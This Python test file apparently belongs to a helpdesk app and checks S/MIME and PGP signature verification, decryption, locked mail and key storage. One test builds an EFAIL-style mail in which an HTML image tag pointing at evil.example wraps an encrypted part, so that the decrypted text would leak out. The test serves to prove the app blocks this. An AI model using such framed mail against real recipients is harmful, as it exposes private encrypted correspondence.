# ruff: noqa: E501 — mails and phrases read better unbroken
"""Signed mail is checked, encrypted mail is opened, with real keys; what fits no key is kept and says so."""

from typing import Any

import pysequoia
import pytest
from django.test import Client

from doors.email.conftest import Take
from doors.email.protected import (
    ANNA,
    PART,
    beside,
    desk_key,
    holder,
    mail,
    pgp_sealed,
    pgp_signed,
    smime_sealed,
    smime_signed,
    trust,
)
from handrail.channels.email.models import RawMail
from handrail.flow.outbox import quoting
from handrail.flow.outbox.models import MailKey
from handrail.people.models import Person
from handrail.tickets.models import Message, Ticket

pytestmark = pytest.mark.django_db
LOCKED = "Encrypted for a key this desk does not have."


def message(take: Take, raw: bytes) -> Message:
    kept = take(raw)
    return Message.objects.get(pk=kept.message_id)


def protection(of: Message) -> dict[str, Any]:
    said: dict[str, Any] = of.found["protection"]
    return said


def pgp(user: str) -> pysequoia.Tsk:
    return pysequoia.Tsk.generate(user_id=user)


def test_a_signature_under_an_authority_we_trust(take: Take) -> None:
    root = holder("Trust House", "ca@trust.example", ca=True)
    anna = holder("Anna Lind", "anna@x.example", root)
    trust(root.pem)
    said = message(take, mail(smime_signed(PART, anna)))
    assert said.text.strip() == "The pump is cold." and not said.attachments.exists()
    assert protection(said)["signature"] == {
        "scheme": "S/MIME", "state": "valid", "signer": "Anna Lind", "address": "anna@x.example",
        "issuer": "Trust House",
    }  # fmt: skip


def test_a_text_changed_on_the_way(take: Take) -> None:
    anna = holder("Anna", "anna@x.example")
    trust(anna.pem)
    said = message(take, mail(smime_signed(PART, anna).replace(b"is cold", b"is hot!")))
    assert protection(said)["signature"]["state"] == "broken"


@pytest.mark.parametrize(
    ("days", "sender", "state"),
    [(30, b"eve@x.example", "another"), (-1, ANNA, "outdated")],
)
def test_a_good_signature_that_proves_nothing_now(
    take: Take, days: int, sender: bytes, state: str
) -> None:
    anna = holder("Anna", "anna@x.example", days=days)
    trust(anna.pem)
    said = message(take, mail(smime_signed(PART, anna), sender))
    assert protection(said)["signature"]["state"] == state


def test_a_stranger_who_vouches_for_himself(take: Take) -> None:
    trust(holder("Trust House", "ca@trust.example", ca=True).pem)
    said = message(take, mail(smime_signed(PART, holder("Anna", "anna@x.example"))))
    assert protection(said)["signature"]["state"] == "unknown"


def test_who_is_no_authority_vouches_for_nobody(take: Take) -> None:
    ben = holder("Ben", "ben@x.example")
    trust(ben.pem)
    said = message(take, mail(smime_signed(PART, holder("Anna", "anna@x.example", ben))))
    assert protection(said)["signature"]["state"] == "unknown"


def test_an_opaque_signature_is_read(take: Take) -> None:
    anna = holder("Anna", "anna@x.example")
    trust(anna.pem)
    said = message(take, mail(smime_signed(PART, anna, opaque=True)))
    assert said.text.strip() == "The pump is cold."
    assert protection(said)["signature"]["state"] == "valid"


def test_signed_within_encrypted(take: Take) -> None:
    desk, anna = holder("Desk", "support@desk.example"), holder("Anna", "anna@x.example")
    desk_key(desk.private, desk.certificate and desk.pem)
    trust(anna.pem)
    raw = mail(smime_sealed(smime_signed(PART, anna), desk))
    said = message(take, raw)
    assert said.text.strip() == "The pump is cold."
    assert protection(said)["encrypted"] == "S/MIME" and not protection(said)["is_locked"]
    assert protection(said)["signature"]["state"] == "valid"
    assert bytes(RawMail.objects.get().raw) == raw


def test_no_key_fits(take: Take) -> None:
    desk, other = holder("Desk", "support@desk.example"), holder("Other", "o@x.example")
    desk_key(desk.private, desk.pem)
    said = message(take, mail(smime_sealed(PART, other)))
    assert said.text == LOCKED and protection(said)["is_locked"]
    assert said.attachments.count() == 1
    assert Ticket.objects.get().subject == "Help"


def test_pgp_signed(take: Take) -> None:
    anna = pgp("Anna <anna@x.example>")
    trust(str(anna.extract_certificate()))
    said = message(take, mail(pgp_signed(PART, anna)))
    assert protection(said)["signature"]["state"] == "valid"
    assert protection(said)["signature"]["signer"] == "Anna <anna@x.example>"
    assert said.text.strip() == "The pump is cold."


def test_pgp_changed_or_unknown(take: Take) -> None:
    anna, ben = pgp("Anna <anna@x.example>"), pgp("Ben <ben@x.example>")
    trust(str(anna.extract_certificate()))
    changed = message(take, mail(pgp_signed(PART, anna).replace(b"is cold", b"is hot!")))
    assert protection(changed)["signature"]["state"] == "broken"
    stranger = message(take, mail(pgp_signed(PART, ben)).replace(b"<p1@", b"<p2@"))
    assert protection(stranger)["signature"]["state"] == "unknown"


def test_pgp_encrypted_and_signed(take: Take) -> None:
    desk, anna = pgp("Desk <support@desk.example>"), pgp("Anna <anna@x.example>")
    desk_key(bytes_of(desk))
    trust(str(anna.extract_certificate()))
    said = message(take, mail(pgp_sealed(PART, desk, anna)))
    assert said.text.strip() == "The pump is cold."
    assert (
        protection(said)["signature"]["state"] == "valid" and protection(said)["encrypted"] == "PGP"
    )


def test_pgp_without_a_key(take: Take) -> None:
    said = message(take, mail(pgp_sealed(PART, pgp("Other <o@x.example>"))))
    assert said.text == LOCKED


def test_a_frame_around_the_secret_is_not_shown_with_it(take: Take) -> None:
    desk = pgp("Desk <support@desk.example>")
    desk_key(bytes_of(desk))
    html = b"Content-Type: text/html\r\n\r\n"
    frame = html + b'<img src="https://evil.example/?'
    sealed = pgp_sealed(b"Content-Type: text/html\r\n\r\n<p>top secret</p>", desk)
    raw = (
        b"Content-Type: multipart/mixed; boundary=out\r\n\r\n--out\r\n" + frame + b"\r\n--out\r\n"
        + sealed + b"\r\n--out\r\n" + html + b'"></body>\r\n--out--\r\n'
    )  # fmt: skip
    said = message(take, mail(raw))
    assert "top secret" not in said.text + said.html


def test_a_secret_subject_is_read_and_not_given_away(take: Take) -> None:
    desk = pgp("Desk <support@desk.example>")
    desk_key(bytes_of(desk))
    secret = b"Subject: Cold pump\r\nFrom: Boss <boss@desk.example>\r\n" + PART
    kept = take(mail(pgp_sealed(secret, desk)).replace(b"Subject: Help", b"Subject: ..."))
    ticket = Ticket.objects.get(pk=kept.ticket_id)
    assert (ticket.subject, ticket.requester.email) == ("...", "anna@x.example")
    assert ticket.messages.earliest("pk").text.startswith("Cold pump\n\nThe pump is cold.")


@pytest.mark.parametrize(
    "entity",
    [
        beside(PART, "application/pkcs7-signature", b"\r\nnothing at all"),
        beside(
            PART, "application/pgp-signature", b"\r\n-----BEGIN PGP SIGNATURE-----\r\n\r\nAAAA\r\n"
        ),
        b"Content-Type: application/pkcs7-mime\r\n\r\n" + b"\x30\x80" * 5000,
        b"Content-Type: application/pkcs7-mime; smime-type=signed-data\r\n\r\n\x30\x82\xff\xff\x06",
        b"Content-Type: multipart/signed\r\n\r\nno parts",
        b"Content-Type: multipart/encrypted; boundary=x\r\n\r\n--x\r\n\r\n--x\r\n\r\n\xc0\xff\xff--x--",
    ],
)
def test_broken_protection_is_kept(take: Take, entity: bytes) -> None:
    assert take(mail(entity)).state == "delivered"


def bytes_of(key: pysequoia.Tsk) -> str:
    return str(key)


def shown(of: Message) -> str:
    root = Person.objects.create_user(
        "root@desk.example", "a long password", name="R", role="admin"
    )
    client = Client()
    client.force_login(root, backend="django.contrib.auth.backends.ModelBackend")
    page = client.get(f"/work/tickets/{of.ticket_id}")
    assert page.status_code == 200
    return page.content.decode()


def test_an_answer_never_quotes_what_came_encrypted(take: Take) -> None:
    desk = pgp("Desk <support@desk.example>")
    desk_key(bytes_of(desk))
    said = message(take, mail(pgp_sealed(PART, desk)))
    follow = b"From: Anna <anna@x.example>\nTo: support@desk.example\nSubject: Re: Help\nMessage-ID: <p9@x.example>\nIn-Reply-To: <p1@x.example>\n\nIn the clear.\n"
    clear = message(take, follow)
    assert clear.ticket_id == said.ticket_id
    answer = Message(ticket=said.ticket)
    assert [one.pk for one in quoting.earlier(answer, "whole")] == [clear.pk]
    page = shown(said)
    assert "Encrypted (PGP)" in page and "your answer leaves in the clear" in page


def test_a_signature_on_the_page(take: Take) -> None:
    anna = holder("Anna Lind", "anna@x.example")
    trust(anna.pem)
    page = shown(message(take, mail(smime_signed(PART, anna))))
    assert (
        "Signed by Anna Lind &lt;anna@x.example&gt;, valid, certificate issued by Anna Lind" in page
    )
    assert "leaves in the clear" not in page


def test_meeting_list_and_language_on_the_page(take: Take) -> None:
    calendar = (
        b"BEGIN:VCALENDAR\r\nMETHOD:CANCEL\r\nBEGIN:VEVENT\r\nSUMMARY:Review\r\n"
        b"DTSTART;TZID=Europe/Berlin:20261124T100000\r\nDTEND;TZID=Europe/Berlin:20261124T110000\r\n"
        b"END:VEVENT\r\nEND:VCALENDAR\r\n"
    )
    words = "Guten Tag, leider ist die Heizung seit gestern ausgefallen und wir frieren sehr. Können Sie uns bitte helfen?"
    entity = (
        b"List-Id: Heat <heat.lists.example>\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n"
        b"Content-Type: text/plain; charset=utf-8\r\n\r\n" + words.encode() + b"\r\n--b\r\n"
        b"Content-Type: text/calendar; method=CANCEL\r\n\r\n" + calendar + b"\r\n--b--\r\n"
    )
    page = shown(message(take, mail(entity)))
    assert "Meeting called off: 24 Nov 2026, 09:00 to 10:00, your time" in page
    assert "Came over the list heat.lists.example" in page
    assert "<summary>de</summary> Written in German" in page


@pytest.mark.parametrize(
    ("field", "typed", "fault"),
    [
        ("private_key", "no key", "This is no private key"),
        ("private_key", "-----BEGIN PGP PRIVATE KEY BLOCK-----", "This is no OpenPGP private key"),
    ],
)
def test_keys_are_checked_on_screen(desk_root: Client, field: str, typed: str, fault: str) -> None:
    page = desk_root.post(
        "/work/settings/mail-keys/new", {"name": "Desk", field: typed, "is_active": "on"}
    )
    assert fault in page.content.decode()


def test_a_key_is_kept_sealed_and_never_shown(desk_root: Client) -> None:
    desk = holder("Desk", "support@desk.example")
    typed = {
        "name": "Desk",
        "private_key": desk.private,
        "certificate": desk.pem,
        "is_active": "on",
    }
    assert desk_root.post("/work/settings/mail-keys/new", typed).status_code == 302
    kept = MailKey.objects.get()
    assert kept.private_key.startswith("sealed:") and kept.addresses == "support@desk.example"
    pages = [
        f"/work/settings/mail-keys/{kept.pk}",
        "/work/settings/mail-keys/",
        "/work/settings/mail-keys/history",
    ]
    told = "".join(desk_root.get(page).content.decode() for page in pages)
    assert "support@desk.example" in told
    assert "PRIVATE KEY-----\nMII" not in told and "sealed:" not in told
    other = typed | {"name": "Wrong", "certificate": holder("Other", "o@x.example").pem}
    assert (
        "belongs to another key"
        in desk_root.post("/work/settings/mail-keys/new", other).content.decode()
    )


@pytest.fixture
def desk_root(db: None) -> Client:
    root = Person.objects.create_user(
        "root@desk.example", "a long password", name="R", role="admin"
    )
    client = Client()
    client.force_login(root, backend="django.contrib.auth.backends.ModelBackend")
    return client
